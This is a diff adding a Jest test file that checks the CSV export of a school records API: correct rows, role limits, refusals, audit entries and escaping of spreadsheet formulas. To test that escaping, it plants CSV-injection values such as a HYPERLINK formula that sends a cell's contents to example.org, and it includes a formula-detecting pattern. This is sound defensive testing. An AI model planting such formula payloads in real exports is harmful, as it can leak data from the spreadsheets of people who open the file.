@@ -1,0 +1,149 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { parse } from 'csv-parse/sync';
+import { expectProblem } from '../harness/problem.js';
+import { startSystem, type System } from '../harness/test-app.js';
+import { answer, change, create, query } from './support/calls.js';
+import { Campus } from './support/campus.js';
+import { day } from './support/days.js';
+import { failures } from './support/every.js';
+import { everyList, type List } from './support/lists.js';
+import { buildWorld, type World } from './support/world.js';
+
+/** What a spreadsheet would take for a formula, and what breaks careless files. */
+const formula = '=HYPERLINK("https://example.org/?"&A1,"x")';
+const hostile = [formula, '+1+1', '-2+3', '@SUM(A1)', 'a "quoted", word', 'عربي، فاصلة'];
+
+describe('@remote every list as a file', () => {
+  let system: System;
+  let campus: Campus;
+  let world: World;
+  let lists: List[];
+  beforeAll(async () => {
+    system = await startSystem();
+    campus = await Campus.at(system);
+    world = await buildWorld(campus);
+    await plant(campus, world);
+    lists = await everyList(campus, world);
+  });
+  afterAll(() => system?.close());
+
+  it('should have the rows and the columns of the list, all of them, and no formula', async () => {
+    const found = await failures(
+      lists,
+      (list) => list.name,
+      async (list) => {
+        const { rows, total } = await list.page();
+        const response = await answer(csv(list), 200);
+        expect(response.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
+        expect(response.headers['content-disposition']).toMatch(/^attachment; filename="[a-z-]+\.csv"$/);
+        const [header, ...lines] = parse(response.text) as string[][];
+        expect(header).toEqual(Object.keys(rows[0]!));
+        expect(lines.flat().filter(isFormula)).toEqual([]);
+        if (list.grows) return;
+        expect(lines.length).toBe(total);
+        const expected = rows.map((row) => Object.values(row).map(cellOf).join('\n'));
+        const wrong = expected.findIndex((row, index) => lines[index]!.map(unescaped).join('\n') !== row);
+        expect(lines[wrong]?.map(unescaped).join('\n')).toBe(expected[wrong]);
+      },
+    );
+    expect(found).toEqual([]);
+  });
+
+  it('should keep hostile words readable, and filter, sort and cut like the list', async () => {
+    const filter = { filter: { search: campus.mark, isActive: true }, sort: ['code', 'DESC'], range: [1, 2] };
+    const list = lists.find(({ name }) => name === '/api/courses')!;
+    const page = await list.page(filter);
+    const response = await answer(csv(list, filter), 200);
+    const [, ...lines] = parse(response.text) as string[][];
+    expect(response.headers['content-range']).toBe(page.range);
+    expect(lines.map(([id]) => id)).toEqual(page.rows.map(({ id }) => id));
+    const named = await answer(csv(list, { search: `${campus.mark} hyperlink` }), 200);
+    expect(parse(named.text)).toContainEqual(expect.arrayContaining([`'${formula}`]));
+  });
+
+  it('should be refused as the list is: bad parameters, no session, no permission', async () => {
+    const list = lists.find(({ name }) => name === '/api/students')!;
+    expectProblem(await csv(list, { shoeSize: 43 }), 400);
+    expectProblem(await system.anonymous.get('/api/students').set('Accept', 'text/csv'), 401, {
+      title: 'Unauthorized',
+    });
+    expectProblem(await (await system.as('student')).get('/api/students').set('Accept', 'text/csv'), 403);
+  });
+
+  it('should be no more than the role may see', async () => {
+    const students = `/api/students${query({ search: campus.mark })}`;
+    const bursar = await answer((await system.as('bursar')).get(students).set('Accept', 'text/csv'), 200);
+    const [header, ...lines] = parse(bursar.text) as string[][];
+    expect(header).toEqual(['id', 'studentId', 'firstName', 'lastName', 'email']);
+    expect(lines.length).toBeGreaterThanOrEqual(3);
+    const teacher = await answer(world.faculty.client.get('/api/students').set('Accept', 'text/csv'), 200);
+    expect((parse(teacher.text) as string[][]).length).toBe(1 + 2);
+  });
+
+  it('should be written to the audit trail', async () => {
+    const list = lists.find(({ name }) => name === '/api/holds')!;
+    const response = await answer(csv(list, { studentId: world.students[0].id }), 200);
+    const trail = `/api/audit-events${query({ search: response.headers['x-request-id'] })}`;
+    let found: Record<string, unknown>[] = [];
+    for (let tries = 0; tries < 40 && found.length < 2; tries++) {
+      if (tries) await new Promise((resolve) => setTimeout(resolve, 100));
+      found = (await answer(campus.admin.get(trail), 200)).body as Record<string, unknown>[];
+    }
+    const actions = found.map(({ action, actorRole }) => [action, actorRole]);
+    expect(actions).toContainEqual(['holds.export', 'machine_client']);
+    expect(JSON.stringify(found)).toContain(world.students[0].id);
+  });
+});
+
+const csv = (list: List, parameters = {}) => list.get(parameters).set('Accept', 'text/csv');
+
+const cellOf = (value: unknown): string =>
+  value === null ? '' : typeof value === 'string' ? value : JSON.stringify(value);
+
+const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
+
+/** A file marks a text that would be a formula with an apostrophe. */
+const unescaped = (cell: string): string => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
+
+/** Hostile words wherever an office types words. */
+async function plant(
+  campus: Campus,
+  { term, students: [ash], enrollment, plan, ...world }: World,
+): Promise<void> {
+  const { office, admin, mark } = campus;
+  for (const [index, words] of hostile.entries()) {
+    const course = await campus.course({
+      title: words,
+      description: words,
+      department: words,
+      code: `${mark}-${index}`,
+    });
+    await campus.section(term, { courseId: course.id, meetings: [{ days: ['fri'], room: words }] });
+    await campus.assignment(world.section, { title: words, description: words });
+    await campus.charge(ash, term, { description: words });
+    await campus.hold(ash, { reason: words });
+    await campus.payment({ planId: plan.id, amount: 1, reference: words });
+    await create(admin, '/api/clients', {
+      name: `${words} ${mark}`,
+      description: words,
+      scopes: ['catalog.read'],
+    });
+    await campus.program({ name: `${words} ${mark}`, description: words, degreeType: words });
+    await campus.student({ firstName: words, lastName: words, catalogYear: words.slice(0, 20) });
+  }
+  await change(office, `/api/students/${ash.id}`, { firstName: formula });
+  await change(office, `/api/terms/${term.id}`, { name: `${formula} ${mark}` });
+  await change(office, `/api/courses/${world.course.id}`, { title: formula });
+  await change(office, `/api/programs/${world.program.id}`, { name: `${formula} ${mark}` });
+  await change(office, `/api/charges/${world.charge.id}`, { description: formula });
+  await change(office, `/api/payments/${world.payment.id}`, { reference: formula });
+  await change(office, `/api/assignments/${world.assignment.id}`, { title: formula });
+  await change(office, `/api/policies/${world.policy.id}`, { note: formula, effectiveFrom: day(31) });
+  await change(office, `/api/assignment-submissions/${world.submission.id}/grade`, {
+    score: 12,
+    feedback: formula,
+  });
+  await change(admin, `/api/users/${world.faculty.user.id}`, { lastName: `+Staff ${mark}` });
+  const { status } = await office.post(`/api/enrollments/${enrollment.id}/drop`).send({ reason: formula });
+  expect(status).toBe(200);
+}
